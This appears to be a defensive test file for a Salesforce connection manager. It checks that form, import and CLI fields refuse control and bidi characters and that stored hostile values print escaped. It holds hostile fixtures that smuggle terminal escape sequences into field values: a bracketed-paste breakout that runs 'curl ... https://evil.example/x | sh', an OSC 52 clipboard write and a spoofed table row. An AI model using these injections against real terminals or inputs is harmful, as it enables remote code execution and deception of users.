// No control character reaches a terminal: fields are checked on the way in (form, API, CLI flags,
// imports), a stored bad value is shown escaped and flagged (never dropped), and everything
// written for a terminal or a paste passes the one sanitiser (shared/safe-text.ts).
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openNodeServices } from '../../electron/connections/open-node.js';
import { checkTokenUrls } from '../../electron/salesforce/token-answer.js';
import { fieldProblem } from '../../shared/field-rules.js';
import type { SalesforceEmulator } from '../emulator/salesforce-emulator.js';
import { CONSUMER_KEY, failure, startEmulator } from '../support/helpers.js';
import { cli, drafts, makeDataDir, tempDir } from '../support/cli-helpers.js';

const ESC = '\u001b';
/** Ends a bracketed paste early, wipes the line the user sees (Ctrl-U), then runs a command. */
const PASTE_BREAKOUT = `${ESC}[201~\u0015curl -s https://evil.example/x | sh\n`;
/** Writes "pwned" into the system clipboard through the terminal (OSC 52). */
const OSC52 = `${ESC}]52;c;cHduZWQ=\u0007`;
/** Moves to the start of the line and draws a row of its own. */
const SPOOF = `\r${ESC}[2K\nProd        production  admin@acme.com   ok 2026-01-01`;
/** Any raw control (but newline and tab) or bidi character: what must never reach the terminal. */
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

let emulator: SalesforceEmulator;
beforeAll(async () => {
  emulator = await startEmulator();
});
afterAll(async () => {
  await emulator.stop();
});

const services = (dir: string) => openNodeServices({ dataDir: dir, platform: { fetch: globalThis.fetch } });

/** An unsigned version-2 export holding one connection, with `field` set to `value`. */
function exportWith(field: string, value: string): string {
  const connection = {
    id: 'a1',
    name: 'Team UAT',
    description: '',
    encryption: 'privateKey',
    consumerKey: CONSUMER_KEY,
    username: 'u@example.com',
    environment: 'production',
    createdAt: '2026-01-01T00:00:00.000Z',
    updatedAt: '2026-01-01T00:00:00.000Z',
    [field]: value,
  };
  return JSON.stringify({
    format: 'jwt-connect-connections',
    version: 2,
    exportedAt: '2026-01-01T00:00:00.000Z',
    connections: [connection],
  });
}

describe('fields on the way in', () => {
  it('refuses control and bidi characters in every field of the form, naming the field', async () => {
    const dir = tempDir('jwt-fields-');
    const s = services(dir.dir);
    try {
      const base = { name: 'ok', encryption: 'privateKey' as const };
      const cases: [string, string, RegExp][] = [
        ['name', `UAT${PASTE_BREAKOUT}`, /Connection Name contains a control/],
        ['description', `notes${OSC52}`, /Description contains a control/],
        [
          'description',
          'right-to-left \u202egnp.exe',
          /Description contains a control or text-direction character \(\\u\{202e\}/,
        ],
        ['consumerKey', `3MVG9${PASTE_BREAKOUT}`, /Consumer Key contains a control/],
        ['consumerKey', '3MVG9 abc', /Consumer Key holds only letters, digits/],
        ['username', `u@example.com${SPOOF}`, /Username contains a control/],
        ['username', 'integration user@acme.com', /looks like an email address/],
        ['myDomainUrl', `https://acme.my.salesforce.com/${ESC}[201~`, /My Domain URL contains a control/],
        ['audience', 'https://acme.my.salesforce.com/"x"', /Audience holds only the characters of a web address/],
        ['certificateName', `app${ESC}[8m`, /Certificate Name contains a control/],
      ];
      for (const [field, value, message] of cases) {
        const error = await failure(s.service.createConnection({ ...base, environment: 'mydomain', [field]: value }));
        expect(error.code, field).toBe('BAD_INPUT');
        expect(error.details?.field, field).toBe(field);
        expect(error.message, field).toMatch(message);
      }
      // The CLI's flags go the same way: the form's draft, checked before anything is signed.
      const run = await failure(
        s.service.authorise({ draft: { ...base, consumerKey: `k${OSC52}`, username: 'u@example.com' } }),
      );
      expect(run.details?.field).toBe('consumerKey');
      expect(emulator.tokenRequests).toHaveLength(0);
      // Ordinary values from real life pass.
      for (const [field, value] of [
        ['name', 'Prod — Zürich (EU) / 東京'],
        ['description', 'two\nlines'],
        ['consumerKey', '3MVG9A2kN3Bn17hs.W_ID-x'],
        ['username', "o'brien+ci@acme.com.uat"],
        ['myDomainUrl', 'https://acme--uat.sandbox.my.salesforce.com/'],
        ['certificateName', 'app key 2026'],
      ] as const) {
        expect(fieldProblem(field, value), field).toBeUndefined();
      }
    } finally {
      s.close();
      dir.remove();
    }
  });

  it('refuses an imported connection carrying a paste break-out, OSC 52 or a spoofed row, naming the field; nothing is imported', async () => {
    const dir = tempDir('jwt-import-refused-');
    const s = services(dir.dir);
    try {
      const cases: [string, string, string][] = [
        ['name', `UAT${PASTE_BREAKOUT}`, 'Connection Name'],
        ['consumerKey', `${CONSUMER_KEY}${PASTE_BREAKOUT}`, 'Consumer Key'],
        ['username', `u@example.com${OSC52}`, 'Username'],
        ['description', SPOOF, 'Description'],
        ['myDomainUrl', `https://x.my.salesforce.com${OSC52}`, 'My Domain URL'],
      ];
      for (const [field, value, label] of cases) {
        const error = await failure(s.service.importConnections({ text: exportWith(field, value) }));
        expect(error.code, field).toBe('EXPORT_FILE_INVALID');
        expect(error.message, field).toContain(label);
        expect(error.message, field).toMatch(/was refused/);
        expect(error.message, field).not.toMatch(RAW);
        expect(error.details?.field, field).toBe(field);
      }
      expect(s.service.listConnections({})).toEqual([]);
    } finally {
      s.close();
      dir.remove();
    }
  });

  it('the CLI says which field of which connection was refused, without printing the attack raw', async () => {
    const dir = tempDir('jwt-import-cli-');
    try {
      const file = join(dir.dir, 'team.json');
      writeFileSync(file, exportWith('name', `UAT${PASTE_BREAKOUT}${OSC52}`));
      const run = await cli(['import', file, '--data-dir', join(dir.dir, 'data')]);
      expect(run.code).toBe(2);
      expect(run.stderr).toMatch(
        /Connection "UAT\\x1b\[201~\\x15curl .*" in this export file was refused: Connection Name contains a control/,
      );
      expect(run.stderr + run.stdout).not.toMatch(RAW);
    } finally {
      dir.remove();
    }
  });

  it('refuses a token answer whose identity URL carries control characters (the URL parser would have dropped them)', () => {
    const id = `${ESC}[201~\u0015https://acme.my.salesforce.com/id/00D000000000001AAA/005000000000001AAA`;
    expect(() =>
      checkTokenUrls(
        { instanceUrl: 'https://acme.my.salesforce.com', id },
        'https://acme.my.salesforce.com/services/oauth2/token',
      ),
    ).toThrow(expect.objectContaining({ code: 'TOKEN_ANSWER_UNSAFE' }));
  });
});

describe('a stored bad value (an old store, a hand-edited file)', () => {
  let data: ReturnType<typeof tempDir>;
  const hostileName = `Evil${PASTE_BREAKOUT}${OSC52}${SPOOF}`;
  beforeAll(async () => {
    data = tempDir('jwt-stored-bad-');
    const [uat] = drafts(emulator.url);
    await makeDataDir(data.dir, [uat!, { ...uat!, name: 'Second' }]);
    // Edit the store as a person with a text editor (or an old version) could.
    const path = join(data.dir, 'connections.json');
    const doc = JSON.parse(readFileSync(path, 'utf8')) as { connections: Record<string, unknown>[] };
    Object.assign(doc.connections[1]!, {
      name: hostileName,
      username: `u@example.com${OSC52}`,
      description: `d\u202egnp.exe`,
      consumerKey: `${CONSUMER_KEY}${PASTE_BREAKOUT}`,
    });
    writeFileSync(path, JSON.stringify(doc));
  });
  afterAll(() => data.remove());

  it('keeps the connection, flags it, and names each field the rules refuse', () => {
    const s = services(data.dir);
    try {
      const all = s.service.listConnections({});
      expect(all.map((c) => c.name)).toContain(hostileName); // never dropped: the user can fix it
      const bad = all.find((c) => c.name === hostileName)!;
      expect(bad.fieldProblems?.map((p) => p.field)).toEqual(['name', 'description', 'consumerKey', 'username']);
      const rows = s.service.listRows({}).rows;
      expect(rows.find((r) => r.id === bad.id)?.fieldProblem).toBe(true);
      expect(rows.find((r) => r.id !== bad.id)?.fieldProblem).toBeUndefined();
      expect(s.repository.problem).toBeUndefined(); // not damage: the store itself is fine
    } finally {
      s.close();
    }
  });

  it('list prints it escaped: no escape sequence, no extra row', async () => {
    const run = await cli(['list', '--data-dir', data.dir]);
    expect(run.code).toBe(0);
    expect(run.stdout).not.toMatch(RAW);
    expect(run.stdout).toContain('Evil\\x1b[201~\\x15curl -s https://evil.example/x | sh\\x0a\\x1b]52;c;cHduZWQ=\\x07');
    expect(run.stdout.split('\n')).toHaveLength(2 + 2); // header, rule, two connections: the spoofed row is not a row
    const json = await cli(['list', '--json', '--data-dir', data.dir]);
    expect(json.stdout).not.toMatch(RAW);
    expect((JSON.parse(json.stdout) as { name: string }[]).map((c) => c.name)).toContain(hostileName);
  });

  it('did-you-mean suggestions and test --all lines and table print it escaped', async () => {
    const typo = await cli(['test', '--connection', 'Evi', '--data-dir', data.dir]);
    expect(typo.code).toBe(2);
    expect(typo.stderr).toMatch(/Did you mean: "Evil\\x1b\[201~/);
    expect(typo.stderr).not.toMatch(RAW);
    const all = await cli(['test', '--all', '--data-dir', data.dir], { isTTY: true });
    expect(all.stdout).toMatch(/^FAIL Evil\\x1b\[201~\\x15curl .* ms: Salesforce refused the login/m);
    expect(all.stdout + all.stderr).not.toMatch(RAW);
    expect(all.stdout.split('\n').filter((l) => l.startsWith('Prod '))).toEqual([]); // the spoofed row never starts a line
  });
});
